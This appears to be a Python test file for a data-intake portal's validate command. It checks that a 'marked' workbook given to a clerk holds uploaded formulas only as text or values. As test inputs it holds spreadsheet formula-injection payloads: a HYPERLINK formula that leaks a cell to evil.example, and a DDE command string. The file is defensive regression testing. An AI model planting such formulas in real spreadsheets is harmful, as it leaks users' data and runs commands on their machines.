"""Issue 21, item 7: the marked report offered to the clerk ran formulas from the upload.

A CSV title `=HYPERLINK(…)` or `=cmd|' /C calc'!A0` became a live formula cell in the
`--marked` workbook; a workbook's own formula cells were copied as formulas. The marked
copy now holds text as text (shown exactly) and formulas as the values the portal read.
"""

from __future__ import annotations

from pathlib import Path

from openpyxl import Workbook, load_workbook
from typer.testing import CliRunner

from portal.cli import app
from tests.intake.sheets.books import LONG_EN, LONG_FA

runner = CliRunner()
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"click")'
DDE = "=cmd|' /C calc'!A0"
ABOUT = ["--dataset", "d", "--description-fa", LONG_FA, "--description-en", LONG_EN]


def formula_cells(path: Path) -> list[str]:
    book = load_workbook(path)
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def texts(path: Path) -> dict[str, str]:
    book = load_workbook(path)
    return {
        str(cell.value): cell.data_type
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }


def test_a_hostile_csv_gives_a_marked_workbook_without_formulas(tmp_path: Path) -> None:
    source = tmp_path / "projects.csv"
    source.write_text(
        "شناسه طرح,وضعیت,استان,عنوان طرح (فارسی),بودجه (ریال)\n"
        f'csv-1,در حال اجرا,یزد,"{HYPERLINK.replace(chr(34), chr(34) * 2)}",-5\n'
        f"csv-2,در حال اجرا,یزد,{DDE},@SUM(1+1)\n",
        encoding="utf-8",
    )
    marked = tmp_path / "marked.xlsx"
    result = runner.invoke(app, ["validate", str(source), *ABOUT, "--marked", str(marked)])
    assert result.exit_code == 1, result.output
    assert formula_cells(marked) == []
    shown = texts(marked)
    assert shown[HYPERLINK] == "s" and shown[DDE] == "s" and shown["@SUM(1+1)"] == "s"


def test_a_workbook_s_own_formulas_come_back_as_their_values(tmp_path: Path) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["شناسه طرح", "وضعیت", "استان", "عنوان طرح (فارسی)", "بودجه (ریال)"])
    sheet.append(["x-1", "در حال اجرا", "یزد", "طرح", 100])
    sheet.append(["x-2", "در حال اجرا", "یزد", "طرح", 200])
    sheet["E4"] = "=E2+E3"
    sheet["D5"] = DDE
    path = tmp_path / "own.xlsx"
    book.save(path)
    marked = tmp_path / "marked.xlsx"
    result = runner.invoke(app, ["validate", str(path), *ABOUT, "--marked", str(marked)])
    assert result.exit_code == 1, result.output
    assert formula_cells(path) == ["Sheet!E4", "Sheet!D5"]  # the upload had two
    assert formula_cells(marked) == []
